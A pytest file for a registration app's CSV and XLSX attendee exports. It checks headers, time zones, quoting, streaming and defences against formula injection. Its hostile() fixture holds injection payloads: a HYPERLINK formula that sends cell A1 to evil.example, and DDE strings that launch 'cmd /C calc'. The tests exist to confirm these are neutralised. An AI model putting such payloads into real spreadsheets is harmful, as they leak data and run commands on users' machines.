"""Attendee-list exports: CSV bytes parsed back with `csv`, XLSX opened with openpyxl."""
from __future__ import annotations

import codecs
import csv
import io
import re
from typing import Any, Iterator

import openpyxl
import pytest

from chalicelib.domain.registrations import Registration
from chalicelib.formats import spreadsheets


def as_registration(data: dict[str, Any]) -> Registration:
    """A Registration with exactly the given fields; absent ones are None (as after erasure)."""
    fields: dict[str, Any] = {name: None for name in Registration.__dataclass_fields__}
    fields["erased"] = False
    fields.update(data)
    return Registration(**fields)


class exports:  # noqa: N801 — the writers, fed plain dicts as the tests below write them
    COLUMNS = spreadsheets.COLUMNS
    CSV_CHUNK_BYTES = spreadsheets.CSV_CHUNK_BYTES
    PARTY_SIZE_COLUMN = spreadsheets.PARTY_SIZE_COLUMN
    PHONE_COLUMN = spreadsheets.PHONE_COLUMN
    neutralise = staticmethod(spreadsheets.neutralise)
    local_time = staticmethod(spreadsheets.local_time)

    @staticmethod
    def attendee_row(data: dict[str, Any], lang: str) -> list[Any]:
        return spreadsheets.attendee_row(as_registration(data), lang)

    @staticmethod
    def iter_csv_chunks(rows: Any, *args: Any, **kwargs: Any) -> Iterator[bytes]:
        return spreadsheets.iter_csv_chunks(map(as_registration, rows), *args, **kwargs)

    @staticmethod
    def write_csv(rows: Any, *args: Any, **kwargs: Any) -> int:
        return spreadsheets.write_csv(map(as_registration, rows), *args, **kwargs)

    @staticmethod
    def write_xlsx(rows: Any, *args: Any, **kwargs: Any) -> None:
        spreadsheets.write_xlsx(map(as_registration, rows), *args, **kwargs)

BOM = codecs.BOM_UTF8
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\x00")

# The twelve columns of SPEC §2 never move; §4's four follow them.
ZH_HEADER = ("报名编号,状态,姓名,手机号,身份,人数,城市,单位,藏品,报名时间,签到时间,签到口,"
             "座位,已签到人数,来源,签到人").split(",")
EN_HEADER = ("registration_id,status,name,phone,role,party_size,city,organization,items,"
             "registered_at,checked_in_at,gate,seat,checked_in_heads,source,checked_in_by").split(",")

SEEDED: list[dict[str, Any]] = [
    {   # confirmed collector with items
        "registration_id": "AGRCBVJBHLIYWJRX", "status": "confirmed", "name": "张三",
        "phone": "13812345678", "role": "collector", "party_size": 2, "city": "杭州",
        "organization": "西泠印社",
        "items": [{"name": "铜像", "category": "雕塑", "era": "民国", "intent": "donate"},
                  {"name": "纪念章", "intent": "exchange"}],
        "registered_at": "2026-11-28T14:19:46+08:00",
    },
    {   # waitlisted, registered at another offset (UTC)
        "registration_id": "AGRCBVJBHLIYWJRY", "status": "waitlisted", "name": "李四",
        "phone": "13900001111", "role": "guest", "party_size": 1,
        "registered_at": "2026-11-28T06:20:00+00:00",
    },
    {   # cancelled
        "registration_id": "AGRCBVJBHLIYWJRZ", "status": "cancelled", "name": "王五",
        "phone": "13700002222", "role": "media", "party_size": 3, "organization": "新华社",
        "registered_at": "2026-11-29T09:00:00+08:00",
    },
    {   # checked in at a gate
        "registration_id": "AGRCBVJBHLIYWJR2", "status": "confirmed", "name": "赵六",
        "phone": "13600003333", "role": "nominee", "party_size": 1, "city": "上海",
        "registered_at": "2026-11-30T10:00:00+08:00",
        "checked_in_at": "2026-12-20T18:31:05+08:00", "gate": "东门",
    },
    {   # erased (PIPL): no name, no phone
        "registration_id": "AGRCBVJBHLIYWJR3", "status": "cancelled", "role": "visitor",
        "party_size": 1, "erased": True, "registered_at": "2026-12-01T08:00:00+08:00",
    },
]

EXPECTED_ZH = [
    ["AGRCBVJBHLIYWJRX", "已确认", "张三", "13812345678", "藏家", "2", "杭州", "西泠印社",
     "铜像(雕塑,民国,捐赠); 纪念章(交换)", "2026-11-28 14:19:46", "", "", "", "", "", ""],
    ["AGRCBVJBHLIYWJRY", "候补中", "李四", "13900001111", "嘉宾", "1", "", "",
     "", "2026-11-28 14:20:00", "", "", "", "", "", ""],
    ["AGRCBVJBHLIYWJRZ", "已取消", "王五", "13700002222", "媒体", "3", "", "新华社",
     "", "2026-11-29 09:00:00", "", "", "", "", "", ""],
    ["AGRCBVJBHLIYWJR2", "已确认", "赵六", "13600003333", "候选人", "1", "上海", "",
     "", "2026-11-30 10:00:00", "2026-12-20 18:31:05", "东门", "", "", "", ""],
    ["AGRCBVJBHLIYWJR3", "已取消", "", "", "参观者", "1", "", "",
     "", "2026-12-01 08:00:00", "", "", "", "", "", ""],
]
EXPECTED_EN = [
    ["AGRCBVJBHLIYWJRX", "confirmed", "张三", "13812345678", "collector", "2", "杭州", "西泠印社",
     "铜像(雕塑,民国,donate); 纪念章(exchange)", "2026-11-28 14:19:46", "", "", "", "", "", ""],
    ["AGRCBVJBHLIYWJRY", "waitlisted", "李四", "13900001111", "guest", "1", "", "",
     "", "2026-11-28 14:20:00", "", "", "", "", "", ""],
    ["AGRCBVJBHLIYWJRZ", "cancelled", "王五", "13700002222", "media", "3", "", "新华社",
     "", "2026-11-29 09:00:00", "", "", "", "", "", ""],
    ["AGRCBVJBHLIYWJR2", "confirmed", "赵六", "13600003333", "nominee", "1", "上海", "",
     "", "2026-11-30 10:00:00", "2026-12-20 18:31:05", "东门", "", "", "", ""],
    ["AGRCBVJBHLIYWJR3", "cancelled", "", "", "visitor", "1", "", "",
     "", "2026-12-01 08:00:00", "", "", "", "", "", ""],
]


def csv_bytes(registrations, lang: str = "zh") -> bytes:
    out = io.BytesIO()
    written = exports.write_csv(registrations, out, lang)
    data = out.getvalue()
    assert written == len(data)
    return data


def parse_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(BOM)
    return list(csv.reader(io.StringIO(data[len(BOM):].decode("utf-8"), newline="")))


def hostile(trigger: str) -> dict[str, Any]:
    return {
        "registration_id": "AGRCBVJBHLIYWJR4", "status": "confirmed",
        "name": trigger + "HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")",
        "phone": trigger + "13812345678", "role": "collector", "party_size": 1,
        "city": trigger + "cmd|' /C calc'!A0", "organization": trigger + "SUM(1+1)*cmd|' /C calc'!A0",
        "items": [{"name": trigger + "1+1", "intent": "exhibit"}],
        "registered_at": "2026-11-28T14:19:46+08:00", "gate": trigger + "东门",
    }


# --- rows -----------------------------------------------------------------------------------

def test_attendee_row_keeps_party_size_an_int_and_translates_codes():
    row = exports.attendee_row(SEEDED[0], "zh")
    assert row[5] == 2 and isinstance(row[5], int)
    assert row[1] == "已确认" and row[4] == "藏家"
    assert exports.attendee_row(SEEDED[0], "en")[1:5] == ["confirmed", "张三", "13812345678", "collector"]


def test_items_in_english_keep_the_intent_code():
    registration = {**SEEDED[0], "items": [
        {"name": "Bronze statue", "category": "sculpture", "era": "Republic era", "intent": "donate"},
        {"name": "Badge", "intent": "exhibit"}]}
    assert exports.attendee_row(registration, "en")[8] == "Bronze statue(sculpture,Republic era,donate); Badge(exhibit)"
    assert exports.attendee_row(registration, "zh")[8] == "Bronze statue(sculpture,Republic era,捐赠); Badge(展示)"


@pytest.mark.parametrize("stored, shown", [
    ("2026-11-28T14:19:46+08:00", "2026-11-28 14:19:46"),
    ("2026-11-28T06:19:46+00:00", "2026-11-28 14:19:46"),
    ("2026-11-28T06:19:46Z", "2026-11-28 14:19:46"),
    ("2026-11-28T20:19:46.123456+14:00", "2026-11-28 14:19:46"),
    ("2026-11-28T14:19:46", "2026-11-28 14:19:46"),  # no offset: taken as Shanghai time
    ("", ""),
    (None, ""),
])
def test_times_are_shown_in_shanghai(stored, shown):
    assert exports.local_time(stored) == shown


def test_party_size_from_dynamodb_or_damaged():
    from decimal import Decimal
    assert exports.attendee_row({**SEEDED[0], "party_size": Decimal("3")}, "zh")[5] == 3
    assert exports.attendee_row({**SEEDED[0], "party_size": "-1+1"}, "zh")[5] == "'-1+1"
    assert exports.attendee_row({k: v for k, v in SEEDED[0].items() if k != "party_size"}, "zh")[5] == ""


def test_unknown_lang_is_refused():
    with pytest.raises(ValueError):
        exports.attendee_row(SEEDED[0], "fr")
    with pytest.raises(ValueError):
        list(exports.iter_csv_chunks(SEEDED, "fr"))


@pytest.mark.parametrize("trigger", TRIGGERS)
def test_neutralise_prefixes_every_trigger(trigger):
    assert exports.neutralise(trigger + "1+1") == "'" + trigger + "1+1"
    assert exports.neutralise(exports.neutralise(trigger)) == "'" + trigger  # idempotent


@pytest.mark.parametrize("harmless", ["", "张三", "1+1", "a=b", " =1", "'=1", "13812345678"])
def test_neutralise_leaves_other_cells_alone(harmless):
    assert exports.neutralise(harmless) == harmless


# --- CSV ------------------------------------------------------------------------------------

@pytest.mark.parametrize("lang, header, expected", [("zh", ZH_HEADER, EXPECTED_ZH), ("en", EN_HEADER, EXPECTED_EN)])
def test_csv_round_trips_every_column(lang, header, expected):
    rows = parse_csv(csv_bytes(SEEDED, lang))
    assert rows[0] == header
    assert rows[1:] == expected


def test_csv_defaults_to_chinese_headers():
    out = io.BytesIO()
    exports.write_csv(SEEDED, out)
    assert parse_csv(out.getvalue())[0] == ZH_HEADER


def test_csv_starts_with_bom_and_ends_lines_with_crlf():
    data = csv_bytes(SEEDED)
    assert data[:3] == b"\xef\xbb\xbf"
    assert data.endswith(b"\r\n")
    assert data.count(b"\r\n") == len(SEEDED) + 1
    assert re.search(rb"(?<!\r)\n", data) is None  # no bare LF
    assert re.search(rb"\r(?!\n)", data) is None  # no bare CR


def test_csv_quotes_commas_quotes_and_newlines():
    tricky = {**SEEDED[3], "organization": '上海"博物馆",三楼\r\n东厅', "city": "a\nb"}
    data = csv_bytes([tricky])
    assert b'"\xe4\xb8\x8a\xe6\xb5\xb7""' in data  # "上海"" : the quote doubled inside a quoted field
    rows = parse_csv(data)
    assert rows[1][7] == '上海"博物馆",三楼\r\n东厅'
    assert rows[1][6] == "a\nb"
    assert len(rows) == 2
    # outside quoted fields every line still ends in CRLF
    unquoted = re.sub(rb'"(?:[^"]|"")*"', b"", data)
    assert re.search(rb"(?<!\r)\n", unquoted) is None


def test_csv_of_no_registrations_is_the_header():
    data = csv_bytes([])
    assert data == BOM + ",".join(ZH_HEADER).encode("utf-8") + b"\r\n"


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_csv_neutralises_formula_triggers(lang):
    rows = parse_csv(csv_bytes([hostile(t) for t in TRIGGERS], lang))[1:]
    assert len(rows) == len(TRIGGERS)
    for trigger, row in zip(TRIGGERS, rows):
        for cell in row:
            assert not cell.startswith(TRIGGERS), (trigger, row)
        for col in ("name", "phone", "city", "organization", "items", "gate"):
            cell = row[exports.COLUMNS.index(col)]
            assert cell.startswith("'" + trigger), (col, cell)
    assert rows[0][exports.COLUMNS.index("items")] == ("'=1+1(展示)" if lang == "zh" else "'=1+1(exhibit)")


TEXT_FIELDS = ("registration_id", "status", "name", "phone", "role", "city", "organization", "gate")


def test_a_trigger_in_any_single_cell_is_caught():
    for lang in ("zh", "en"):
        for trigger in TRIGGERS:
            for field in TEXT_FIELDS:
                row = exports.attendee_row({**SEEDED[3], field: trigger + "1"}, lang)
                assert row[exports.COLUMNS.index(field)] == "'" + trigger + "1", (lang, field, trigger)
                assert sum(isinstance(c, str) and c.startswith("'") for c in row) == 1
            items = exports.attendee_row({**SEEDED[0], "items": [{"name": trigger + "x"}]}, lang)
            assert items[exports.COLUMNS.index("items")] == "'" + trigger + "x"
            for field in ("registered_at", "checked_in_at"):  # unparseable times are shown as stored
                row = exports.attendee_row({**SEEDED[3], field: trigger + "1"}, lang)
                assert row[exports.COLUMNS.index(field)] == "'" + trigger + "1"


def test_cells_holding_the_internal_separator_or_non_text_survive():
    row = exports.attendee_row({**SEEDED[3], "city": "a\x1f=b", "gate": 7, "organization": -3}, "zh")
    assert row[6:8] == ["a\x1f=b", "'-3"]
    assert row[11] == "7"


def test_csv_is_streamed_lazily():
    progress = {"produced": 0}

    def registrations(n: int) -> Iterator[dict[str, Any]]:
        for i in range(n):
            progress["produced"] = i + 1
            yield {**SEEDED[0], "registration_id": f"R{i:015d}", "name": f"张{i}"}

    chunks = exports.iter_csv_chunks(registrations(50_000))
    first = next(chunks)
    assert first.startswith(BOM)
    assert len(first) >= exports.CSV_CHUNK_BYTES
    assert progress["produced"] < 1_000  # about one chunk's worth, not the whole list
    rest = list(chunks)
    assert progress["produced"] == 50_000
    assert all(len(chunk) >= exports.CSV_CHUNK_BYTES for chunk in rest[:-1])
    data = first + b"".join(rest)
    assert not data[3:].startswith(BOM)
    rows = parse_csv(data)
    assert len(rows) == 50_001
    assert rows[-1][0] == "R000000000049999"


def test_write_csv_writes_as_it_reads():
    progress = {"produced": 0}
    seen_at_first_write = []

    def registrations() -> Iterator[dict[str, Any]]:
        for i in range(50_000):
            progress["produced"] = i + 1
            yield {**SEEDED[1], "registration_id": f"R{i:015d}"}

    class Sink:
        size = 0

        def write(self, chunk: bytes) -> int:
            if not seen_at_first_write:
                seen_at_first_write.append(progress["produced"])
            self.size += len(chunk)
            return len(chunk)

    sink = Sink()
    written = exports.write_csv(registrations(), sink)
    assert written == sink.size
    assert seen_at_first_write[0] < 1_000
    assert progress["produced"] == 50_000


# --- XLSX -----------------------------------------------------------------------------------

def xlsx_sheet(registrations, lang: str = "zh"):
    out = io.BytesIO()
    exports.write_xlsx(registrations, out, lang)
    out.seek(0)
    return openpyxl.load_workbook(out).active


@pytest.mark.parametrize("lang, header, expected", [("zh", ZH_HEADER, EXPECTED_ZH), ("en", EN_HEADER, EXPECTED_EN)])
def test_xlsx_holds_the_same_table(lang, header, expected):
    sheet = xlsx_sheet(SEEDED, lang)
    rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert rows[0] == header
    shown = [["" if v is None else str(v) for v in row] for row in rows[1:]]
    assert shown == expected


def test_xlsx_types_header_and_freeze():
    sheet = xlsx_sheet(SEEDED)
    assert sheet.freeze_panes == "A2"
    assert all(cell.font.b for cell in sheet[1])
    phone, party = exports.PHONE_COLUMN + 1, exports.PARTY_SIZE_COLUMN + 1
    cell = sheet.cell(row=2, column=phone)
    assert cell.data_type == "s" and cell.value == "13812345678"
    assert cell.number_format == "@"
    party_cell = sheet.cell(row=2, column=party)
    assert party_cell.data_type == "n" and party_cell.value == 2
    assert sheet.cell(row=2, column=3).value == "张三"
    assert sheet.cell(row=2, column=9).value == "铜像(雕塑,民国,捐赠); 纪念章(交换)"
    erased = sheet[6]
    assert erased[2].value is None and erased[3].value is None  # no name, no phone
    for row in sheet.iter_rows():
        for c in row:
            assert c.data_type != "f"


def test_xlsx_column_widths_fit_chinese():
    long_org = "中国人民大学艺术学院文物鉴定研究中心"
    sheet = xlsx_sheet([*SEEDED, {**SEEDED[0], "organization": long_org}])
    org = sheet.column_dimensions["H"].width
    assert org >= 2 * len(long_org)  # CJK counts double
    assert sheet.column_dimensions["J"].width >= len("2026-11-28 14:19:46")
    assert sheet.column_dimensions["F"].width >= 4  # 人数: two CJK characters


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_xlsx_has_no_formulas_even_from_hostile_input(lang, tmp_path):
    path = tmp_path / "attendees.xlsx"
    exports.write_xlsx([hostile(t) for t in TRIGGERS], str(path), lang)
    sheet = openpyxl.load_workbook(path).active
    rows = list(sheet.iter_rows())[1:]
    assert len(rows) == len(TRIGGERS)
    for row in rows:
        for cell in row:
            assert cell.data_type != "f"
            if isinstance(cell.value, str):
                # XlsxWriter stores control characters as _xHHHH_ escapes (ECMA-376), which
                # openpyxl leaves as is; either way the first character is the apostrophe.
                assert not cell.value.startswith(TRIGGERS)
    for trigger, row in zip(TRIGGERS, rows):
        assert row[2].value.startswith("'")
        if trigger.isprintable():
            assert row[2].value.startswith("'" + trigger)


def test_xlsx_is_written_row_by_row_from_a_generator(tmp_path):
    sheet_rows = 2_000
    path = tmp_path / "big.xlsx"
    exports.write_xlsx(({**SEEDED[0], "registration_id": f"R{i:015d}"} for i in range(sheet_rows)), path)
    sheet = openpyxl.load_workbook(path, read_only=True).active
    count = sum(1 for _ in sheet.iter_rows(values_only=True))
    assert count == sheet_rows + 1
